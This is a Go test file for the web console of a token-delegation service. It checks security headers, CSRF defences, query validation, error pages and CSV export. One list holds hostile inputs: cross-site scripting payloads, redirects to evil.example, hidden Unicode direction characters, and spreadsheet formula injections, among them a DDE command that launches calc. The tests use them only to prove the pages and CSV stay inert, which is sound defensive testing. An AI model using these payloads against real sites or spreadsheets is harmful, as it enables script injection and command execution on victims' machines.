package console

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"deputy.example/deputy/client/delegation"
	"deputy.example/deputy/server/internal/exchange"
	"deputy.example/deputy/server/internal/guard"
	"deputy.example/deputy/server/internal/ledger"
)

// pages are all pages that a person who is signed in can open.
var pages = []string{
	"/console", "/console/", "/console?subject=user%3Aalice&kind=grant", "/console/entry?entry=58", "/console/entry?entry=42", "/console/chain?jti=x",
	"/console/agent", "/console/agent?agent=agent%3Aresearcher", "/console/take-back?kind=suspend&id=agent%3Aresearcher",
	"/console/take-back?kind=resume&id=agent%3Aresearcher", "/console/take-back?kind=token&id=x", "/console/live", "/console/ledger", "/console/nothing",
	"/console/suspensions", "/console/revoke", "/console/take-back?kind=subject&id=user%3Aalice", "/console/take-back?kind=key&id=x", "/console/take-back?kind=tenant",
	"/console?key=x", "/console/entry/receipts?entry=58",
}

func TestPages(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.engine.receipts = []guard.Receipt{{ID: "a1", Verifier: "service:calendar", Applied: 58, SeenAt: s.clock}, {ID: "b2", Verifier: "service:mail", Applied: 41, SeenAt: s.clock}}
	s.signIn("")
	for path, want := range map[string][]string{
		"/console":                                              {"Ledger entries", "k8s/system:serviceaccount:agents:summarizer", `title="agent:k8s/system%3Aserviceaccount%3Aagents%3Asummarizer"`, "scope_exceeds_parent", "Older entries", "This page as CSV"},
		"/console/entry?entry=58":                               {"Entry 58: revocation", "key found in a public repository", "service:mail", "not yet", "Leaf hash"},
		"/console/entry?entry=57":                               {"Revoked by entry 58", "actor_token"},
		"/console/chain?jti=x":                                  {"<svg", "calendar.read", "user:alice hands authority down", "Revoke this token", "What was derived from it"},
		"/console/agent?agent=agent%3Aresearcher":               {"What it holds", "What it could still obtain", "Contain…", "user:bob"},
		"/console/take-back?kind=suspend&id=agent%3Aresearcher": {"Contain agent:researcher", "live tokens to revoke", `name="reason"`},
		"/console/agent":                                        {"Suspended", "Seen lately", "Most refused", "entries 1 to 59", "agent=agent%3Aprober"},
		"/console/suspensions":                                  {"agent:prober", "key found in a public repository", "Resume…", "before=17"},
		"/console/revoke":                                       {"A subject", "A key", "The whole tenant"},
		"/console/take-back?kind=subject&id=user%3Aalice":       {"Revoke all for user:alice", "live tokens to revoke", `name="reason"`},
		"/console/take-back?kind=key&id=x":                      {"Ban a key"},
		"/console/take-back?kind=tenant":                        {"Revoke everything", `name="repeat"`},
		"/console/live":                                         {`data-last="58"`, `http-equiv="refresh"`},
		"/console/ledger":                                       {"Latest checkpoint", "0ac5186a91863e8e", "deputy log verify"},
	} {
		got := s.get(path)
		if got.StatusCode != http.StatusOK || got.Header.Get("Content-Type") != "text/html; charset=utf-8" {
			t.Errorf("%s: %s %s", path, got.Status, got.Header.Get("Content-Type"))
		}
		for _, text := range want {
			if !strings.Contains(got.body, text) {
				t.Errorf("%s lacks %q", path, text)
			}
		}
	}
	head := s.do(s.request(http.MethodHead, "/console", nil))
	if head.StatusCode != http.StatusOK || head.body != "" || head.ContentLength < 1000 {
		t.Errorf("HEAD: %s with %d bytes", head.Status, head.ContentLength)
	}
}

// TestEveryAnswerIsShutIn checks the headers of every address, with and without a session.
func TestEveryAnswerIsShutIn(t *testing.T) {
	shut := func(t *testing.T) (open []string) {
		s := newStage(t)
		s.sample(t)
		s.browser.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
		look := func(path string) {
			header := s.get(path).Header
			policy := header.Get("Content-Security-Policy")
			for _, part := range []string{"default-src 'none'", "script-src 'self';", "style-src 'self';", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"} {
				if !strings.Contains(policy, part) {
					open = append(open, path+" lacks "+part)
				}
			}
			if strings.Contains(policy, "unsafe") || strings.Contains(policy, "*") {
				open = append(open, path+" has "+policy)
			}
			for name, want := range map[string]string{
				"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer", "Cross-Origin-Opener-Policy": "same-origin",
			} {
				if header.Get(name) != want {
					open = append(open, path+" lacks "+name)
				}
			}
			if asset := strings.Contains(path, "/assets/"); (header.Get("Cache-Control") == "no-store") == asset {
				open = append(open, path+" has Cache-Control "+header.Get("Cache-Control"))
			}
		}
		var all []string
		for path := range s.console.routes {
			all = append(all, path)
		}
		for _, path := range append(all, "/console/nothing", "/console/live/entries?after=x") {
			look(path)
		}
		s.browser.CheckRedirect = nil
		s.signIn("")
		for _, path := range slices.Concat(pages, []string{"/console/search.csv", "/console/live/entries?after=0"}) {
			look(path)
		}
		return open
	}
	if open := shut(t); len(open) > 0 {
		t.Error(strings.Join(open, "\n"))
	}
}

// TestFormsOfOthersDoNothing is CSRF: forms of another site, of another session, or of no page.
func TestFormsOfOthersDoNothing(t *testing.T) {
	attack := func(t *testing.T, forge func(s *stage, r *http.Request, form url.Values)) bool {
		s := newStage(t)
		s.sample(t)
		page := s.signIn("")
		form := url.Values{"kind": {"suspend"}, "id": {"agent:researcher"}, "reason": {"x"}, "csrf": {s.csrf(page.body)}}
		r := s.request(http.MethodPost, "/console/take-back", form)
		forge(s, r, form)
		again := s.request(http.MethodPost, "/console/take-back", form)
		again.Header = r.Header
		got := s.do(again)
		done := len(s.engine.revokes) > 0
		if !done && got.StatusCode != http.StatusForbidden {
			t.Errorf("refused with %s", got.Status)
		}
		return done
	}
	if !attack(t, func(*stage, *http.Request, url.Values) {}) {
		t.Fatal("the page's own form does nothing") // the control of all below
	}
	site := func(value string) func(*stage, *http.Request, url.Values) {
		return func(_ *stage, r *http.Request, _ url.Values) { r.Header.Set("Sec-Fetch-Site", value) }
	}
	origin := func(value string) func(*stage, *http.Request, url.Values) {
		return func(_ *stage, r *http.Request, _ url.Values) {
			r.Header.Del("Sec-Fetch-Site")
			if value != "" {
				r.Header.Set("Origin", value)
			}
		}
	}
	token := func(value func(*stage) string) func(*stage, *http.Request, url.Values) {
		return func(s *stage, _ *http.Request, form url.Values) { form.Set("csrf", value(s)) }
	}
	for name, forge := range map[string]func(*stage, *http.Request, url.Values){
		"cross-site":         site("cross-site"),
		"same-site":          site("same-site"),
		"other origin":       origin("https://evil.example"),
		"opaque origin":      origin("null"),
		"no browser":         origin(""),
		"no token":           token(func(*stage) string { return "" }),
		"any token":          token(func(*stage) string { return newSecret() }),
		"the session itself": token(func(s *stage) string { return s.cookies()["deputy-demo-session"] }),
		"another session's": token(func(s *stage) string {
			held := s.browser
			defer func() { s.browser = held }()
			s.browser = newBrowser(s.t)
			return s.csrf(s.signIn("").body)
		}),
	} {
		t.Run(name, func(t *testing.T) {
			if attack(t, forge) {
				t.Error("it works")
			}
		})
	}
	t.Run("signing out", func(t *testing.T) {
		s := newStage(t)
		s.signIn("")
		if got := s.post("/console/sign-out", nil); got.StatusCode != http.StatusForbidden || len(s.shelf.kept) != 1 {
			t.Error(got.Status)
		}
	})
	t.Run("by GET", func(t *testing.T) {
		s := newStage(t)
		s.signIn("")
		for _, method := range []string{http.MethodGet, http.MethodHead} {
			s.do(s.request(method, "/console/take-back?kind=suspend&id=agent%3Aresearcher&reason=x", nil))
		}
		for _, call := range s.engine.revokes {
			if !call.DryRun {
				t.Errorf("it revokes: %+v", call)
			}
		}
		if got := s.get("/console/sign-out"); got.StatusCode != http.StatusMethodNotAllowed || got.Header.Get("Allow") != "POST" || len(s.shelf.kept) != 1 {
			t.Error(got.Status)
		}
	})
}

func TestContain(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.signIn("")
	asked := s.get("/console/take-back?kind=suspend&id=agent%3Aresearcher")
	form := url.Values{"kind": {"suspend"}, "id": {"agent:researcher"}, "csrf": {s.csrf(asked.body)}}
	if got := s.post("/console/take-back", form); got.StatusCode != http.StatusBadRequest || !strings.Contains(got.body, "Reason: must not be empty") {
		t.Errorf("without a reason: %s", got.Status)
	}
	form.Set("reason", "key found in a public repository")
	got := s.post("/console/take-back", form)
	if got.Request.URL.RequestURI() != "/console/entry?entry=58" || !strings.Contains(got.body, "suspends agent:researcher") && !strings.Contains(got.body, "Entry 58") {
		t.Errorf("leads to %s", got.Request.URL)
	}
	var done []exchange.RevokeCall
	for _, call := range s.engine.revokes {
		if !call.DryRun {
			done = append(done, call)
		}
	}
	if len(done) != 1 || done[0].Target != (delegation.Target{Kind: delegation.BanSuspend, ID: "agent:researcher"}) || done[0].Reason != "key found in a public repository" ||
		done[0].Credentials.Person == nil || done[0].Tenant != "demo" || done[0].Peer == "" {
		t.Errorf("the engine was asked %+v", done)
	}
	for _, query := range []string{"kind=tenant&id=x", "kind=subject&id=alice", "kind=suspend&id=researcher", "kind=&id=x", "kind=token&id=", "kind=agent_subject&id=agent:a", "kind=key&id=x&subject=user:a"} {
		if got := s.get("/console/take-back?" + query); got.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %s", query, got.Status)
		}
	}
}

func TestSearchAsksExactlyWhatTheFormSays(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.signIn("")
	s.engine.queries = nil
	s.get("/console?" + url.Values{
		"subject": {"user:alice"}, "actor": {"agent:planner"}, "caller": {" service:ci "}, "scope": {"calendar.read"}, "audience": {"https://calendar.example"},
		"kind": {"refusal"}, "outcome": {"refused"}, "reason": {"scope_exceeds_parent"}, "trace": {"4bf9"}, "jti": {"01A"}, "txn": {" 01B "}, "key": {"0Zc"}, "peer": {"192.0.2.7"}, "from": {"2026-11-23T10:00"}, "until": {"2026-11-23T11:30:15"},
		"before": {"41"}, "limit": {"10"},
	}.Encode())
	want := ledger.Query{
		Subject: "user:alice", Actor: "agent:planner", Caller: "service:ci", Scope: "calendar.read", Audience: "https://calendar.example",
		Kind: ledger.KindRefusal, Outcome: ledger.Refused, Reason: delegation.ScopeExceedsParent, TraceID: "4bf9",
		ID: "01A", Txn: "01B", Key: "0Zc", Peer: "192.0.2.7",
		From: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC), Until: time.Date(2026, 11, 23, 11, 30, 15, 0, time.UTC), Before: 41, Limit: 10,
	}
	if len(s.engine.queries) != 1 || !reflect.DeepEqual(s.engine.queries[0], want) {
		t.Errorf("asked %+v", s.engine.queries)
	}
	for _, query := range []string{"subject=alice", "actor=A:b", "actor=agent:a%25b%3a", "kind=approval", "outcome=x", "reason=because", "from=yesterday", "until=12", "before=-1", "before=x", "limit=501"} {
		s.engine.queries = nil
		if got := s.get("/console?" + query); got.StatusCode != http.StatusBadRequest || len(s.engine.queries) != 0 {
			t.Errorf("%s: %s, asked %v", query, got.Status, s.engine.queries)
		}
	}
	s.engine.role = exchange.Role{Principal: alice}
	s.browser = newBrowser(t)
	s.signIn("")
	s.engine.queries = nil
	got := s.get("/console?scope=calendar.read")
	if len(s.engine.queries) != 1 || s.engine.queries[0].Subject != alice || !strings.Contains(got.body, "on your behalf") || strings.Contains(got.body, ">Live<") {
		t.Errorf("a subject asks %+v", s.engine.queries)
	}
	s.engine.queries = nil
	s.get("/console?actor=agent%3Aplanner")
	if s.engine.queries[0].Subject != "" {
		t.Errorf("an operator asks %+v", s.engine.queries)
	}
}

func TestProblemsSayWhatToDo(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.signIn("")
	for _, c := range []struct {
		err    error
		status int
		text   string
	}{
		{delegation.Refuse(delegation.NotFound, "jti", "no such grant, or none that you may see"), http.StatusNotFound, "Both look the same on purpose"},
		{delegation.Refuse(delegation.RateLimited, "", "slow down"), http.StatusTooManyRequests, "Wait a moment"},
		{delegation.Unavailable("ledger", fmt.Errorf("canary of a cause")), http.StatusServiceUnavailable, "did not answer"},
		{fmt.Errorf("canary of a fault"), http.StatusInternalServerError, "The log has the cause"},
		{delegation.Refuse(delegation.ParameterInvalid, "agent", "is odd"), http.StatusBadRequest, "agent: is odd"},
	} {
		s.engine.err = c.err
		for _, path := range []string{"/console", "/console/search.csv", "/console/chain?jti=x", "/console/agent?agent=agent%3Aa", "/console/live", "/console/entry?entry=1", "/console/live/entries"} {
			got := s.get(path)
			if got.StatusCode != c.status || !strings.Contains(got.body, c.text) || strings.Contains(got.body, "canary") || got.Header.Get("Content-Disposition") != "" {
				t.Errorf("%v at %s: %s\n%s", c.err, path, got.Status, got.body)
			}
		}
	}
	s.engine.err = delegation.Unavailable("ledger", nil)
	if got := s.get("/console/ledger"); got.StatusCode != http.StatusOK || !strings.Contains(got.body, "no checkpoint to show") {
		t.Errorf("%s\n%s", got.Status, got.body)
	}
}

// corpus is hostile text that an agent, or a person who controls one, may send.
var corpus = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'onmouseover='alert(1)`, `javascript:alert(1)`, `</textarea><script>alert(1)</script>`,
	`</title><svg onload=alert(1)>`, `{{.CSRF}}`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	"a\u202etxt.exe", "\u2066hidden\u2069", "null\x00byte", "\x1b[31mred", `=HYPERLINK("http://evil.example")`, "<!--", "]]>", "data:text/html,<script>alert(1)</script>",
}

// TestWhatAgentsSayIsInert places the corpus wherever a page shows text of others, and parses the
// pages as a browser does.
func TestWhatAgentsSayIsInert(t *testing.T) {
	s := newStage(t)
	for _, evil := range corpus {
		s.sample(t)
		for _, e := range slices.Concat(s.engine.entries, s.engine.chain, s.engine.reach.Tokens) {
			e.Detail, e.Audiences, e.Scopes, e.Peer, e.ActorProof, e.ModelID = evil, []string{evil}, delegation.Scopes{evil}, evil, evil, evil
			e.Subject, e.Actor, e.Actors = delegation.Principal("user:"+evil), delegation.Principal(evil), delegation.Chain{delegation.Principal("agent:" + evil)}
			e.TraceID, e.HolderKey, e.Root = evil, evil, evil
			if e.Kind == ledger.KindGrant {
				e.Parent = evil
			}
		}
		for i := range s.engine.reach.Obtainable {
			s.engine.reach.Obtainable[i].Audiences = []string{evil}
			s.engine.reach.Obtainable[i].Path = []delegation.Principal{delegation.Principal(evil)}
		}
		s.engine.receipts = []guard.Receipt{{ID: evil, Verifier: delegation.Principal(evil)}}
		s.engine.window.Agents[0].Agent, s.engine.suspended[0].Target.ID = delegation.Principal(evil), "agent:"+evil
		s.engine.suspended[0].Recorded.Caller, s.engine.suspended[0].Recorded.Detail = delegation.Principal("user:"+evil), evil
		s.engine.checkpoint.Note, s.engine.checkpoint.VerifierKey = evil, evil
		if len(s.cookies()) == 0 {
			s.signIn("")
		}
		for _, path := range append(pages, "/console?scope="+url.QueryEscape(evil), "/console?subject="+url.QueryEscape(evil), "/console/entry?jti="+url.QueryEscape(evil), "/console/sign-in?next="+url.QueryEscape(evil)) {
			body := s.get(path).body
			for _, fault := range faults(body, s.site.URL) {
				t.Errorf("%q at %s: %s", evil, path, fault)
			}
			if strings.ContainsFunc(body, func(r rune) bool { return r < ' ' && r != '\n' && r != '\t' || r == '\u202e' || r == '\u2066' }) {
				t.Errorf("%q at %s: a character that cannot be seen", evil, path)
			}
		}
	}
	if len(faults(`<p onclick="x">`, "")) == 0 || len(faults("<script>1</script>", "")) == 0 || len(faults(`<a href="javascript:1">`, "")) == 0 || len(faults(`<img src="//evil.example/x">`, "")) == 0 {
		t.Error("the test does not notice faults")
	}
}

// faults returns what a page must not hold: inline scripts and styles, event handlers, and
// addresses of other sites.
func faults(page, site string) (found []string) {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			if n.FirstChild != nil {
				found = append(found, "an inline script")
			}
		case "style", "base", "iframe", "object", "embed", "img":
			found = append(found, "an element "+n.Data)
		}
		for _, a := range n.Attr {
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
				found = append(found, "an attribute "+a.Key)
			case slices.Contains([]string{"href", "src", "action", "formaction", "data", "xlink:href"}, a.Key):
				if !strings.HasPrefix(a.Val, "/console") && a.Val != "#main" {
					found = append(found, "an address "+a.Val)
				}
			case a.Key == "content" && strings.Contains(a.Val, "evil"):
				found = append(found, "a refresh to "+a.Val)
			}
		}
	}
	return found
}

func TestCSVIsInertInSpreadsheets(t *testing.T) {
	for _, cell := range []string{"=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1", "\n=1", "\"=1", "'=1", "＝1", "|calc", "%0A=1", "\u00a0=1", "\ufeff=1"} {
		if got := harmless(cell); got != "'"+cell {
			t.Errorf("%q becomes %q", cell, got)
		}
	}
	for _, cell := range []string{"", "user:alice", "https://calendar.example", "2026-11-23T12:00:00Z", "a=1", "42"} {
		if got := harmless(cell); got != cell {
			t.Errorf("%q becomes %q", cell, got)
		}
	}
	download := func() [][]string {
		s := newStage(t)
		s.sample(t)
		for _, e := range s.engine.entries {
			e.Detail, e.Audiences, e.Scopes = `=HYPERLINK("http://evil.example?"&A1)`, []string{"+cmd|' /C calc'!A0"}, delegation.Scopes{"@x"}
		}
		s.signIn("")
		got := s.get("/console/search.csv?subject=user%3Aalice")
		if got.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(got.Header.Get("Content-Disposition"), `attachment; filename="deputy-demo-`) {
			t.Errorf("%v", got.Header)
		}
		rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(s.engine.entries)+1 || !slices.Equal(rows[0], csvColumns) || rows[2][0] != "57" || rows[2][4] != "revoked" {
			t.Errorf("%d rows: %v", len(rows), rows[:3])
		}
		return rows[1:]
	}
	formulas := func(rows [][]string) (n int) {
		for _, row := range rows {
			for _, cell := range row {
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
					n++
				}
			}
		}
		return n
	}
	if n := formulas(download()); n > 0 {
		t.Errorf("%d formulas", n)
	}
}

// TestFirstMistakeOfASearchIsNamed: two fields hold no principals, and every answer names the
// first.
func TestFirstMistakeOfASearchIsNamed(t *testing.T) {
	for range 20 {
		_, err := readQuery(url.Values{"caller": {"x"}, "actor": {"x"}})
		if refusal := delegation.AsError(err); refusal == nil || refusal.Field != "actor" {
			t.Fatal(err)
		}
	}
}

func TestLiveEntries(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.engine.tail = []exchange.Recorded{s.engine.chain[0], s.engine.chain[1], s.engine.chain[2]}
	if got := s.get("/console/live/entries?after=41"); got.StatusCode != http.StatusUnauthorized {
		t.Errorf("a stranger's script: %s", got.Status)
	}
	s.signIn("")
	got := s.get("/console/live/entries?after=41")
	if got.Header.Get("Deputy-Last-Entry") != "57" || strings.Count(got.body, "<tr>") != 2 || strings.Index(got.body, "entry=57") > strings.Index(got.body, "entry=42") {
		t.Errorf("%v\n%s", got.Header, got.body)
	}
	if got := s.get("/console/live/entries?after=57"); got.Header.Get("Deputy-Last-Entry") != "57" || strings.TrimSpace(got.body) != "" {
		t.Errorf("%v\n%s", got.Header, got.body)
	}
	if n := s.engine.closed.Load(); n != 2 {
		t.Errorf("%d of 2 places were given back", n)
	}
	full := delegation.Refuse(delegation.RateLimited, "", "no place")
	full.RetryAfter = 5 * time.Second
	s.engine.full = full
	if got := s.get("/console/live/entries?after=57"); got.StatusCode != http.StatusTooManyRequests || got.Header.Get("Retry-After") != "5" {
		t.Errorf("one too many: %s", got.Status)
	}
}

func TestAPanicShowsNothing(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	s.signIn("")
	s.engine.chain = []exchange.Recorded{{}} // no entry in it
	got := s.get("/console/chain?jti=x")
	if got.StatusCode != http.StatusInternalServerError || !strings.Contains(s.log.String(), "panic") {
		t.Errorf("%s\n%s", got.Status, s.log)
	}
}

func TestPictureNarrows(t *testing.T) {
	s := newStage(t)
	s.sample(t)
	c := &call{site: s.console.routes["/console"].site}
	p := c.draw(hopsOf(s.engine.chain))
	if len(p.Nodes) != 4 || len(p.Edges) != 3 {
		t.Fatalf("%d nodes, %d edges", len(p.Nodes), len(p.Edges))
	}
	for i := range 3 {
		if p.Nodes[i+1].H > p.Nodes[i].H {
			t.Errorf("box %d is higher than the one before", i+1)
		}
	}
	gone := map[string]bool{}
	for _, l := range p.Lanes {
		if l.Class == "gone" {
			gone[strings.TrimSuffix(l.Full, ", not handed on")] = true
		}
		if l.X2 <= l.X1 || l.Y > p.Height || l.X2 > p.Width {
			t.Errorf("lane %+v leaves the picture of %d × %d", l, p.Width, p.Height)
		}
	}
	if len(gone) != 4 || !gone["mail.read"] || !gone["calendar.write"] || !gone["contacts.read"] || !gone["https://mail.example"] {
		t.Errorf("what ends is %v", gone)
	}
	for text, most := range map[string]int{"short": 10, "": 3, "exactly ten": 11} {
		if shorten(text, most) != text {
			t.Errorf("%q is cut", text)
		}
	}
	if got := shorten("https://a-very-long-audience.example/path", 11); got != "https…/path" || len([]rune(got)) != 11 {
		t.Errorf("cut to %q", got)
	}
}
